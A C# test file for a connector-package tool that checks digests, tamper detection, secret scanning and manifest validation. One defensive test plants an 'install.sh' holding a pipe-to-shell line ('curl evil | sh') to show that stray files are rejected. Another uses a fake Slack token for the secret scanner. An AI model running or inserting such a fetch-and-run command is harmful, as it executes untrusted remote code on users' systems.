using System.Text.Json.Nodes;
using FlowConnectors.Catalog;
using FlowConnectors.Tests.Shared;

namespace FlowConnectors.Connectors.Tests.Catalog;

public class PackageSpecs
{
    [Fact]
    public async Task Packing_the_same_folder_twice_gives_identical_bytes()
    {
        using var slack = new SampleCopy();
        var first = (await slack.PackAsync()).ToBytes();
        File.SetLastWriteTimeUtc(Path.Combine(slack.Path, "connector.json"), DateTime.UtcNow.AddDays(-3));
        var second = (await slack.PackAsync()).ToBytes();
        second.ShouldBe(first);
    }

    [Fact]
    public async Task A_package_carries_its_version_a_digest_and_every_connector_file_but_no_stray_state()
    {
        using var slack = new SampleCopy();
        File.WriteAllText(Path.Combine(slack.Path, ".connection.json"), """{ "token": "do-not-pack" }""");
        var package = await slack.PackAsync();

        package.Reference.ShouldBe("slack@1.0.0");
        package.Digest.ShouldMatch("^sha256:[0-9a-f]{64}$");
        package.Files.Keys.ShouldContain("connector.json");
        package.Files.Keys.ShouldContain("icon.svg");
        package.Files.Keys.ShouldContain("flows/postMessage.flow.json");
        package.Files.Keys.ShouldContain("tests/postMessage.json");
        package.Files.Keys.ShouldNotContain(".connection.json");

        var read = CatalogPackage.Read(package.ToBytes(), "slack.fcpkg");
        read.Digest.ShouldBe(package.Digest);
        read.Files.Keys.ShouldBe(package.Files.Keys);
    }

    [Fact]
    public async Task A_tampered_package_is_refused_for_its_digest_mismatch()
    {
        using var slack = new SampleCopy();
        var bytes = (await slack.PackAsync()).ToBytes();
        var tampered = PackageBytes.Tamper(bytes, "flows/postMessage.flow.json", text => text.Replace("/chat.postMessage", "/chat.delete"));

        var error = Should.Throw<CatalogException>(() => CatalogPackage.Read(tampered, "slack.fcpkg"));
        error.Kind.ShouldBe(CatalogErrorKind.InvalidPackage);
        error.Message.ShouldBe("slack.fcpkg: 'flows/postMessage.flow.json' does not match its SHA-256 in package.json: the package was changed after it was packed (digest mismatch)");
    }

    [Fact]
    public async Task A_package_whose_listed_hashes_were_rewritten_still_fails_on_the_digest()
    {
        using var slack = new SampleCopy();
        var package = await slack.PackAsync();
        var bytes = PackageBytes.Tamper(package.ToBytes(), "package.json", text =>
        {
            var metadata = JsonNode.Parse(text)!;
            metadata["digest"] = "sha256:" + new string('0', 64);
            return metadata.ToJsonString();
        });
        Should.Throw<CatalogException>(() => CatalogPackage.Read(bytes, "slack.fcpkg"))
            .Message.ShouldBe($"slack.fcpkg: digest mismatch: package.json says sha256:{new string('0', 64)} but the contents hash to {package.Digest}");
    }

    [Fact]
    public async Task A_secret_looking_value_is_refused_naming_file_and_path_but_not_the_value()
    {
        using var slack = new SampleCopy();
        var token = "xoxb-" + "918273645012" + "-" + "Zk3Jq9Pw2Lm8Rt5V";
        slack.Edit("flows/postMessage.flow.json", flow => flow["nodes"]![0]!["inputs"]!["inputs"]!["headers"] = new JsonObject { ["Authorization"] = "Bearer " + token });

        var error = await Should.ThrowAsync<CatalogException>(slack.PackAsync());
        error.Message.ShouldBe($"{slack.Path}: refused: it holds 1 secret-looking value(s); nothing was packed");
        error.Details.ShouldBe(["flows/postMessage.flow.json: $.nodes[0].inputs.inputs.headers.Authorization: looks like a Slack token"]);
        error.Describe().ShouldNotContain(token);
    }

    [Fact]
    public void A_literal_credential_in_a_field_named_like_one_is_found_but_placeholders_in_fixtures_are_fine()
    {
        using var slack = new SampleCopy();
        SecretScanner.Scan(slack.Package().Files).ShouldBeEmpty(); // tests/authping.json's connection holds "xoxb-test-token"
        slack.Edit("tests/authping.json", fixture => fixture["connection"]!["token"] = "q8Jf2LxW9vR3mK7pZt");

        SecretScanner.Scan(slack.Package().Files).ShouldBe(["tests/authping.json: $.connection.token: 'token' holds a literal credential"]);
    }

    [Fact]
    public void A_package_holds_only_what_a_connector_is_made_of()
    {
        using var slack = new SampleCopy();
        var files = CatalogPackage.CollectFiles(slack.Load());
        files["install.sh"] = "curl evil | sh"u8.ToArray();

        Should.Throw<CatalogException>(() => CatalogPackage.FromFiles(files)).Message
            .ShouldBe("'install.sh' is not part of a connector (connector.json, its icon, flows/*.flow.json, tests/*.json, templates/…)");
    }

    [Fact]
    public void A_missing_or_malformed_manifest_and_a_version_that_is_not_semver_are_refused_with_the_reason()
    {
        using var temp = new TempFolder();
        Should.Throw<CatalogException>(Packer.PackAsync(temp.Path, SampleCopy.Validator())).Message.ShouldBe($"{temp.Path}: no connector.json (missing manifest)");

        using var slack = new SampleCopy();
        File.WriteAllText(Path.Combine(slack.Path, "connector.json"), "{ \"key\": \"slack\", ");
        var malformed = Should.Throw<CatalogException>(slack.PackAsync());
        malformed.Message.ShouldBe($"{slack.Path} is not a valid connector");
        malformed.Details.ShouldHaveSingleItem().ShouldStartWith("connector.json: $: ");

        using var other = new SampleCopy();
        other.Version("1.0");
        var notSemver = Should.Throw<CatalogException>(other.PackAsync());
        notSemver.Details.ShouldContain("connector.json: $.version: MANIFEST_INVALID_VERSION: version '1.0' is not a semantic version (e.g. 1.2.3)");
    }

    [Fact]
    public async Task A_connector_whose_offline_tests_fail_is_not_packed()
    {
        using var slack = new SampleCopy();
        slack.Edit("flows/postMessage.flow.json", flow => flow["nodes"]![0]!["inputs"]!["inputs"]!["relative_url"] = "/chat.update");

        var error = await Should.ThrowAsync<CatalogException>(slack.PackAsync());
        error.Kind.ShouldBe(CatalogErrorKind.TestsFailed);
        error.Message.ShouldBe("slack: the connector's offline tests fail; nothing was packed");
        error.Details.ShouldContain("FAIL tests/postMessage.json");
        error.Details.ShouldContain("    request 1 (POST /api/chat.postMessage): path expected /api/chat.postMessage but was /api/chat.update");
    }

    [Fact]
    public async Task Every_sample_connector_packs_and_publishes_to_a_directory_catalog_and_reads_back_with_its_digest()
    {
        using var temp = new TempFolder();
        var catalog = new DirectoryCatalog(Path.Combine(temp.Path, "catalog"));
        var validator = SampleCopy.Validator();
        foreach (var folder in Repo.SampleConnectors().Select(Repo.Connector))
        {
            var package = await Packer.PackAsync(folder, validator);
            var read = CatalogPackage.Read(package.ToBytes(), folder);
            catalog.Publish(read, ReviewStatus.Approved, p => Packer.Validate(p, validator)).Created.ShouldBeTrue();
            var installed = catalog.Get(package.Key, null);
            installed.Digest.ShouldBe(package.Digest);
            installed.Files.Keys.ShouldBe(package.Files.Keys);
        }
        catalog.List().Select(e => e.Key).ShouldBe(Repo.SampleConnectors());
    }
}
